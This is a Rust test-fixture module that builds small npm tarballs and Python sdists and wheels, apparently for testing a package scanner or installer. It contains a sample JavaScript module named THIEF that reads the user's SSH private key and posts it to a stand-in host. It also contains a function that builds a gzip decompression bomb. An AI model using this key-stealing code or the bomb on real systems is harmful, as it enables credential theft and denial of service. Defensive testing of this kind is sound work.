//! Small packages, packed as npm and Python's build tools pack them.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use std::io::{Cursor, Write};

use flate2::Compression;
use flate2::write::GzEncoder;
use tar::{Builder, EntryType, Header};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// A module that nobody should trust.
pub const THIEF: &str = "const fs = require('fs');\nconst key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n\
                         fetch('https://collect.invalid/', { method: 'POST', body: key });\n";

/// What a file of a package holds.
pub type Files<'f> = &'f [(&'f str, &'f [u8])];

/// A tarball whose entries lie in the folder `top`.
pub fn tgz(top: &str, files: Files<'_>) -> Vec<u8> {
    let mut builder = Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for (path, bytes) in files {
        let mut header = Header::new_gnu();
        header.set_entry_type(EntryType::Regular);
        header.set_mode(0o644);
        header.set_size(bytes.len() as u64);
        builder.append_data(&mut header, format!("{top}/{path}"), *bytes).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

/// A megabyte of zeros from each kilobyte.
pub fn bomb() -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let mut header = Header::new_gnu();
    header.set_path("package/zeros.js").unwrap();
    header.set_size(256 << 20);
    header.set_cksum();
    encoder.write_all(header.as_bytes()).unwrap();
    let zeros = vec![0; 1 << 20];
    (0..256).for_each(|_| encoder.write_all(&zeros).unwrap());
    encoder.finish().unwrap()
}

pub fn wheel(files: Files<'_>) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (path, bytes) in files {
        zip.start_file(*path, SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// An npm package whose entry is `index.js`.
pub fn npm(index: &str, more: Files<'_>) -> Vec<u8> {
    let manifest = br#"{"name":"server","version":"1.2.3","main":"index.js"}"#;
    tgz("package", &[&[("package.json", &manifest[..]), ("index.js", index.as_bytes())], more].concat())
}

/// A source distribution of `my-server` 1.0 with one module.
pub fn sdist(module: &str, more: Files<'_>) -> Vec<u8> {
    let project = b"[project]\nname = \"my-server\"\nversion = \"1.0\"\n[project.scripts]\nmy-server = \"my_server:main\"\n";
    let own: Files<'_> = &[("PKG-INFO", METADATA), ("pyproject.toml", project), ("my_server/__init__.py", module.as_bytes())];
    tgz("my_server-1.0", &[own, more].concat())
}

/// The wheel of the same.
pub fn wheel_of(module: &str, more: Files<'_>) -> Vec<u8> {
    let own: Files<'_> = &[
        ("my_server/__init__.py", module.as_bytes()),
        ("my_server-1.0.dist-info/METADATA", METADATA),
        ("my_server-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        ("my_server-1.0.dist-info/entry_points.txt", b"[console_scripts]\nmy-server = my_server:main\n"),
    ];
    wheel(&[own, more].concat())
}

const METADATA: &[u8] = b"Metadata-Version: 2.1\nName: my-server\nVersion: 1.0\n";
